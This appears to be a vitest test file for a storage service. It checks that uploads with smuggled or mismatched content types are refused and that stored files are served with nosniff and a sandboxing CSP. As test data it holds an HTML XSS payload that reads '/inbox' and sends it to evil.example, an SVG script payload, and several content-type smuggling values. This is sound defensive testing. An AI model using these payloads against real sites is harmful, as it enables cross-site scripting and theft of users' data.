/**
 * Smuggled files: an upload must be one media type the bucket allows (a list such as
 * `image/png, text/html` is refused, so is SVG in the avatars bucket) and its bytes must carry
 * that type's signature; whatever is stored is served with `nosniff` and a sandboxing CSP, so
 * nothing runs on the stack's origin even when a file is opened directly.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestStack, type TestStack, type TestUser } from '../helpers/stack.ts';

const HTML = '<!doctype html><script>fetch("/inbox").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>';
const SIGNED: Record<string, Uint8Array<ArrayBuffer>> = {
  'image/png': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
  'image/jpeg': new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46]),
  'image/gif': new TextEncoder().encode('GIF89a\u0001\u0000\u0001\u0000'),
  'image/webp': new TextEncoder().encode('RIFF\u0024\u0000\u0000\u0000WEBPVP8 '),
};
const SANDBOX = "sandbox; default-src 'none'";

let stack: TestStack;
let user: TestUser;

beforeAll(async () => {
  stack = await startTestStack();
  user = await stack.createUser();
});

afterAll(async () => {
  await stack?.stop();
});

function rawUpload(key: string, contentType: string, body: Uint8Array<ArrayBuffer> | string, bucket = 'avatars'): Promise<Response> {
  return fetch(`${stack.url}/storage/v1/object/${bucket}/${key}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${user.accessToken}`, apikey: stack.stack.config.anonKey, 'content-type': contentType },
    body,
  });
}

/** A multipart upload whose file part declares `partType`, as a hand-written form would. */
function multipartUpload(key: string, partType: string, body: string): Promise<Response> {
  const boundary = 'x-boundary-7MA4YWxkTrZu0gW';
  const form = `--${boundary}\r\nContent-Disposition: form-data; name="cacheControl"\r\n\r\n3600\r\n--${boundary}\r\nContent-Disposition: form-data; name=""; filename="a.png"\r\nContent-Type: ${partType}\r\n\r\n${body}\r\n--${boundary}--\r\n`;
  return fetch(`${stack.url}/storage/v1/object/avatars/${key}`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${user.accessToken}`,
      apikey: stack.stack.config.anonKey,
      'content-type': `multipart/form-data; boundary=${boundary}`,
    },
    body: form,
  });
}

async function expectRefused(response: Response, message: string): Promise<void> {
  expect(response.status).toBe(400);
  expect(await response.json()).toEqual({ statusCode: '415', error: 'invalid_mime_type', message });
}

async function stored(key: string, bucket = 'avatars'): Promise<number> {
  const { rows } = await stack.stack.db.query<{ n: number }>(
    'select count(*)::int as n from storage.objects where bucket_id = $1 and name = $2',
    [bucket, key],
  );
  return rows[0]?.n ?? 0;
}

describe('upload content types', () => {
  it('refuses a Content-Type list such as `image/png, text/html`, raw or in a multipart part', async () => {
    for (const type of [
      'image/png, text/html',
      'image/png,text/html',
      'text/html, image/png',
      'image/png;',
      'image/png text/html',
      'image/',
    ]) {
      const key = `${user.id}/list-${Math.random().toString(36).slice(2)}.png`;
      await expectRefused(await rawUpload(key, type, HTML), `mime type ${type} is not supported`);
      expect(await stored(key)).toBe(0);
    }
    const key = `${user.id}/multipart.png`;
    const response = await multipartUpload(key, 'image/png, text/html', HTML);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { statusCode: string }).statusCode).toBe('415');
    expect(await stored(key)).toBe(0);
  });

  it('refuses SVG and other image types outside the avatars list', async () => {
    const { error } = await user.client.storage.from('avatars').upload(`${user.id}/x.svg`, new Blob([SVG], { type: 'image/svg+xml' }));
    expect(error?.message).toBe('mime type image/svg+xml is not supported');
    for (const type of ['image/svg+xml; charset=utf-8', 'image/bmp', 'image/x-icon', 'text/html']) {
      await expectRefused(await rawUpload(`${user.id}/x.img`, type, SVG), `mime type ${type} is not supported`);
    }
  });

  it('refuses bytes that do not carry the declared image type signature', async () => {
    for (const [type, body] of [
      ['image/png', HTML],
      ['image/jpeg', SVG],
      ['image/gif', SIGNED['image/png']!],
      ['image/webp', 'RIFF0000WAVE'],
    ] as const) {
      const key = `${user.id}/fake.${type.split('/')[1]}`;
      await expectRefused(await rawUpload(key, type, body), `file content does not match mime type ${type}`);
      expect(await stored(key)).toBe(0);
    }
    const { error } = await user.client.storage.from('avatars').upload(`${user.id}/fake2.png`, new Blob([HTML], { type: 'image/png' }));
    expect(error?.message).toBe('file content does not match mime type image/png');
  });

  it('accepts png, jpeg, gif and webp with their signatures, parameters allowed', async () => {
    for (const [type, bytes] of Object.entries(SIGNED)) {
      const { error } = await user.client.storage
        .from('avatars')
        .upload(`${user.id}/ok.${type.split('/')[1]}`, new Blob([bytes], { type }));
      expect(error, type).toBeNull();
    }
    const response = await rawUpload(`${user.id}/param.png`, 'Image/PNG; name="avatar"', SIGNED['image/png']!);
    expect(response.status).toBe(200);
  });
});

describe('serving stored objects', () => {
  it('serves with nosniff and a sandboxing CSP, publicly and to the owner', async () => {
    const key = `${user.id}/served.png`;
    expect((await rawUpload(key, 'image/png', SIGNED['image/png']!)).status).toBe(200);
    const publicUrl = stack.anon().storage.from('avatars').getPublicUrl(key).data.publicUrl;
    const authenticated = `${stack.url}/storage/v1/object/authenticated/avatars/${key}`;
    for (const [url, headers] of [
      [publicUrl, {}],
      [authenticated, { authorization: `Bearer ${user.accessToken}` }],
    ] as const) {
      for (const method of ['GET', 'HEAD']) {
        const response = await fetch(url, { method, headers });
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toBe('image/png');
        expect(response.headers.get('x-content-type-options')).toBe('nosniff');
        expect(response.headers.get('content-security-policy')).toBe(SANDBOX);
      }
    }
  });

  it('sandboxes HTML in a bucket without type limits, and serves a mangled stored type as bytes', async () => {
    await stack.stack.db.query(`insert into storage.buckets (id, name, public) values ('attachments', 'attachments', true)`);
    await stack.stack.db.query(
      `create policy "Anyone writes attachments" on storage.objects for insert to authenticated with check (bucket_id = 'attachments')`,
    );
    await stack.stack.db.query(`create policy "Anyone reads attachments" on storage.objects for select using (bucket_id = 'attachments')`);
    expect((await rawUpload(`${user.id}/page.html`, 'text/html; charset=utf-8', HTML, 'attachments')).status).toBe(200);
    const page = await fetch(`${stack.url}/storage/v1/object/public/attachments/${user.id}/page.html`);
    expect(page.headers.get('content-type')).toBe('text/html;charset=utf-8');
    expect(page.headers.get('content-security-policy')).toBe(SANDBOX);
    expect(page.headers.get('x-content-type-options')).toBe('nosniff');

    // An object stored before types were parsed strictly keeps its old metadata.
    await stack.stack.db.query(
      `update storage.objects set metadata = jsonb_set(metadata, '{mimetype}', '"image/png, text/html"') where bucket_id = 'attachments' and name = $1`,
      [`${user.id}/page.html`],
    );
    const mangled = await fetch(`${stack.url}/storage/v1/object/public/attachments/${user.id}/page.html`);
    expect(mangled.headers.get('content-type')).toBe('application/octet-stream');
    expect(mangled.headers.get('content-security-policy')).toBe(SANDBOX);
  });
});
